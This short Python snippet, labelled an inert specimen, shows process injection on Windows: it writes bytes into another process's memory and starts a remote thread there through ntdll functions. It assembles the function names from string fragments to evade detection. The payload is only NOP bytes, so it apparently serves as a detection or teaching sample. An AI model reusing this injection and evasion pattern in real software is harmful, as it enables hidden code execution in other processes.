# Inert specimen. Trick: the undocumented names of the native library, got by joined text.
import ctypes

nt = ctypes.windll.ntdll
code = b"\x90" * 64


def write(process, place):
    getattr(nt, "NtWrite" + "VirtualMemory")(process, place, code, 64, None)
    getattr(nt, "RtlCreate" + "UserThread")(process, None, False, 0, 0, 0, place, 0, None, None)
